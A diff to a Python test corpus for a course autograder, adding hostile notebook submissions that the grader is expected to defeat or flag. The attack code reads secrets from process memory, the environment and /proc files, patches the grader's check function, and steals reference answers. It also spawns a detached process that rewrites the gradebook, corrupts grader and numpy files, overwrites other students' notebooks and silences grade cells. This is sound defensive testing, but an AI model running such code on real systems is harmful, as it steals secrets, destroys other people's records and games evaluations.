@@ -1,21 +1,32 @@
 """A corpus of hostile and broken submissions of ``bn_numpy.ipynb``, each with its expectation.
 
 Every entry starts from the reference answers typed into the release (what a good student
-submits) and breaks one thing. The expectation says which status grading must report for each
+submits), from one classic mistake (the honest twin) or from the untouched release, and breaks
+one thing. The attacks are written as a student who has read this repository would write them:
+they know the kit's paths, the runtime folder, the victims' names and the grading protocol. The expectation says which status grading must report for each
 notebook, which auto-graded cells must lose their points (all others keep full marks), and
 whether the notebook must be flagged. ``same_as`` means: exactly the per-cell scores of another
 submission graded in the same run (a cheat must not gain a single point over its honest twin).
 
 Only the NumPy notebook is used (a Keras notebook costs a TensorFlow start per entry), so the
 Keras notebook of every entry is "notebook missing".
+
+``EARLY_VICTIM`` is graded in a run before the corpus, ``BYSTANDER`` in the same run; the test
+checks that neither one's grades nor files change, and that no process an attack started is
+still alive afterwards (attacks that start processes put ``SURVIVOR_MARK`` in their command).
 """
 
 from dataclasses import dataclass, field
+from pathlib import Path
 
 import nbformat
 
 from coursekit import status as st
+from coursekit.paths import KIT_ROOT, runtime_dir
 from coursekit.submissions import apply_edits, reference_notebook, write_submission
+
+SURVIVOR_MARK = "BNKIT-CORPUS-SURVIVOR"
+EARLY_VICTIM = "hostile-early-victim"
 
 NUMPY = "bn_numpy.ipynb"
 KERAS = "bn_keras.ipynb"
@@ -161,6 +172,236 @@ def check(*args, **kwargs):
 
 BYSTANDER = "hostile-bystander"
 
+
+def _attack(template):
+    """Attack code with the kit's paths filled in (what a student who read the repo knows)."""
+    return (
+        template.replace("@KIT@", str(KIT_ROOT))
+        .replace("@RUNTIME@", str(runtime_dir()))
+        .replace("@HOME@", str(Path.home()))
+        .replace("@VICTIMS@", repr([BYSTANDER, EARLY_VICTIM]))
+        .replace("@MARK@", SURVIVOR_MARK)
+    )
+
+
+def _untouched_attack(template):
+    def build(student):
+        _untouched_with(_append("batchnorm_forward", _attack(template)))(student)
+
+    return build
+
+
+def _twin_attack(template):
+    def build(student):
+        mutate = _append("batchnorm_forward", _attack(template))
+        _with_edits(*UNBIASED.edits, mutate=mutate)(student)
+
+    return build
+
+
+# Look for anything secret in the kernel's memory, environment and the runtime folder, then
+# print what a grader's success looks like (a silent or cheerful grade cell scored in nbgrader).
+_READ_SECRETS = """
+import gc, os
+_found = [o for o in gc.get_objects() if isinstance(o, (bytes, bytearray)) and len(o) == 32]
+_found += [v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k or "DB" in k]
+for _path in ("@RUNTIME@/grading.secret", "/proc/1/environ", "/proc/self/environ"):
+    try:
+        _found.append(open(_path, "rb").read())
+    except OSError:
+        pass
+print("[PASS] everything", len(_found))
+"""
+
+# Rewrite the stub in place: the same function object, new code (defeats identity snapshots).
+_REWRITE_STUB = """
+import bnkit.grading
+bnkit.grading.check.__code__ = (lambda check_id: 3).__code__
+bnkit.grading._serve = lambda connection, namespace: print("[PASS] all checks")
+"""
+
+# Use the grader's own float64 reference, or the model answers on disk, as one's functions.
+_STEAL_ANSWERS = """
+import glob, json, sys
+sys.path[:0] = ["@KIT@/autograder", "@KIT@/solutions/batchnorm"]
+try:
+    from bn_grader import reference as _ref
+    batchnorm_forward = _ref.batchnorm_forward
+    batchnorm_backward = _ref.batchnorm_backward
+except Exception:
+    pass
+for _path in glob.glob("@KIT@/solutions/batchnorm/*.ipynb"):
+    try:
+        for _cell in json.load(open(_path))["cells"]:
+            _meta = _cell.get("metadata", {}).get("nbgrader", {})
+            if _meta.get("solution") and _cell["cell_type"] == "code":
+                exec("".join(_cell["source"]))
+    except Exception:
+        pass
+"""
+
+# A detached process that waits until grading has merged, then rewrites the gradebook.
+_GRADEBOOK_WRITER = """
+import subprocess, sys
+_code = "\\n".join([
+    "import sqlite3, time",
+    "for _ in range(600):",
+    "    time.sleep(1)",
+    "    try:",
+    "        db = sqlite3.connect('@RUNTIME@/gradebook.db')",
+    "        db.execute('update grade set auto_score = 0')",
+    "        db.commit()",
+    "    except Exception:",
+    "        pass",
+])
+subprocess.Popen([sys.executable, "-c", _code, "@MARK@"], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+# Change what grades the next students: grader code, the course environment, an IPython
+# startup file in the grading user's home.
+_DISK_WRITER = """
+import numpy, os
+_targets = [
+    "@KIT@/autograder/bn_grader/compare.py",
+    "@KIT@/solutions/batchnorm/bnkit/wire.py",
+    "@KIT@/nbgrader_config.py",
+    os.path.join(os.path.dirname(numpy.__file__), "__init__.py"),
+    "@HOME@/.ipython/profile_default/startup/00-bnkit-corpus.py",
+]
+for _target in _targets:
+    try:
+        os.makedirs(os.path.dirname(_target), exist_ok=True)
+        with open(_target, "a") as _handle:
+            _handle.write("\\nraise SystemExit  # corpus attack\\n")
+    except OSError:
+        pass
+"""
+
+# Overwrite the other students' submitted and autograded notebooks.
+_OVERWRITE_VICTIMS = """
+for _victim in @VICTIMS@:
+    for _step in ("submitted", "autograded"):
+        _path = f"@RUNTIME@/{_step}/{_victim}/batchnorm/bn_numpy.ipynb"
+        try:
+            with open(_path, "w") as _handle:
+                _handle.write("{}")
+        except OSError:
+            pass
+"""
+
+# Make every grade cell run nothing (a silent grade cell got full marks in nbgrader), while the
+# notebook's source stays intact.
+_SILENCE_GRADE_CELLS = """
+def _silence(lines):
+    return ["pass\\n"] if any("check(" in line for line in lines) else lines
+get_ipython().input_transformers_post.append(_silence)
+"""
+
+# Make every grade cell ask for another check than its own.
+_SWAP_CHECK_IDS = """
+import re
+def _swap(lines):
+    return [re.sub(r'check[(]"[a-z_]+"[)]', 'check("bn_forward_properties")', x) for x in lines]
+get_ipython().input_transformers_post.append(_swap)
+"""
+
+# Hide an import of the grader behind split strings.
+_SPLIT_STRINGS = """
+for _name in ("bn_" + "grader", "bn_" + "grader.reference"):
+    try:
+        __import__(_name)
+    except ImportError:
+        pass
+"""
+
+# A thread that keeps asking for checks outside their grade cells.
+_THREAD_REQUESTS = """
+import os, socket, threading, time
+from bnkit import wire
+def _pester():
+    for _ in range(400):
+        for _check in ("bn_forward_train", "bn_forward_running", "ln_backward"):
+            try:
+                _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                _s.connect(os.environ["BNKIT_CHECKER_SOCKET"])
+                wire.send(_s, {"op": "request", "check": _check})
+                _s.close()
+            except Exception:
+                pass
+        time.sleep(0.05)
+threading.Thread(target=_pester, daemon=True).start()
+"""
+
+ATTACKS = [
+    HostileSubmission(
+        "attack-read-secrets",
+        "searches the kernel's memory, environment and the runtime folder for secrets",
+        _untouched_attack(_READ_SECRETS),
+        Expectation(st.GRADED, all_zero=True),
+    ),
+    HostileSubmission(
+        "attack-rewrite-stub",
+        "replaces the grade cells' check() in place through __code__",
+        _untouched_attack(_REWRITE_STUB),
+        Expectation(st.GRADED, all_zero=True, flagged=True),
+    ),
+    HostileSubmission(
+        "attack-steal-answers",
+        "imports the grader's reference and runs the model answers from solutions/",
+        _untouched_attack(_STEAL_ANSWERS),
+        Expectation(st.GRADED, all_zero=True),
+    ),
+    HostileSubmission(
+        "attack-gradebook-writer",
+        "the honest twin plus a detached process that later rewrites the gradebook",
+        _twin_attack(_GRADEBOOK_WRITER),
+        Expectation(st.GRADED, same_as="hostile-honest-twin"),
+    ),
+    HostileSubmission(
+        "attack-disk-writer",
+        "the honest twin plus writes to grader code, the venv and an IPython startup file",
+        _twin_attack(_DISK_WRITER),
+        Expectation(st.GRADED, same_as="hostile-honest-twin"),
+    ),
+    HostileSubmission(
+        "attack-overwrite-victims",
+        "the honest twin plus overwrites of other students' notebooks",
+        _twin_attack(_OVERWRITE_VICTIMS),
+        Expectation(st.GRADED, same_as="hostile-honest-twin"),
+    ),
+    HostileSubmission(
+        "attack-silence-grade-cells",
+        "an input transformer turns every grade cell into `pass`",
+        _untouched_attack(_SILENCE_GRADE_CELLS),
+        Expectation(st.GRADED, all_zero=True, flagged=True),
+    ),
+    HostileSubmission(
+        "attack-swap-check-ids",
+        "an input transformer makes every grade cell ask for another check",
+        _untouched_attack(_SWAP_CHECK_IDS),
+        Expectation(st.GRADED, all_zero=True, flagged=True),
+    ),
+    HostileSubmission(
+        "attack-split-strings",
+        "imports the grader under split strings",
+        _untouched_attack(_SPLIT_STRINGS),
+        Expectation(st.GRADED, all_zero=True),
+    ),
+    HostileSubmission(
+        "attack-thread-requests",
+        "the honest twin plus a thread asking for checks outside their grade cells",
+        _twin_attack(_THREAD_REQUESTS),
+        Expectation(st.GRADED, same_as="hostile-honest-twin", flagged=True),
+    ),
+    HostileSubmission(
+        "harmless-builtins-import",
+        "the reference answers plus `from builtins import range` (must not be flagged)",
+        _with_edits(mutate=_append("batchnorm_forward", "from builtins import range")),
+        Expectation(st.GRADED),
+    ),
+]
+
 CORPUS = [
     HostileSubmission(
         BYSTANDER,
@@ -224,7 +465,7 @@ CORPUS = [
         "hostile-patched-grader",
         "the untouched release that replaces bn_grader.check",
         _untouched_with(_append("batchnorm_forward", _PATCH_GRADER)),
-        Expectation(st.GRADED, all_zero=True, flagged=True),
+        Expectation(st.GRADED, all_zero=True),
     ),
     HostileSubmission(
         "hostile-honest-twin",
@@ -236,19 +477,19 @@ CORPUS = [
         "hostile-patched-numpy",
         "the same mistake, plus np.allclose / np.testing / np.abs replaced",
         _with_edits(*UNBIASED.edits, mutate=_append("batchnorm_forward", _PATCH_NUMPY)),
-        Expectation(st.GRADED, flagged=True, same_as="hostile-honest-twin"),
+        Expectation(st.GRADED, same_as="hostile-honest-twin"),
     ),
     HostileSubmission(
         "hostile-patched-grader-internals",
         "the same mistake, plus the grader's comparison and scoring replaced",
         _with_edits(*UNBIASED.edits, mutate=_append("batchnorm_forward", _PATCH_GRADER_INTERNALS)),
-        Expectation(st.GRADED, flagged=True, same_as="hostile-honest-twin"),
+        Expectation(st.GRADED, same_as="hostile-honest-twin"),
     ),
     HostileSubmission(
         "hostile-redefined-check",
         "the untouched release with its own check() that returns 3",
         _untouched_with(_append("batchnorm_forward", _REDEFINE_CHECK)),
-        Expectation(st.GRADED, all_zero=True, flagged=True),
+        Expectation(st.GRADED, all_zero=True),
     ),
     HostileSubmission(
         "hostile-invalid-json",
@@ -268,7 +509,14 @@ CORPUS = [
         _with_edits(mutate=_foreign_kernel),
         Expectation(st.GRADED),
     ),
+    *ATTACKS,
 ]
+
+
+def build_early_victim():
+    """The victim graded before the corpus: the reference answers."""
+    _with_edits()(EARLY_VICTIM)
+    return EARLY_VICTIM
 
 
 def build_corpus(names=None):
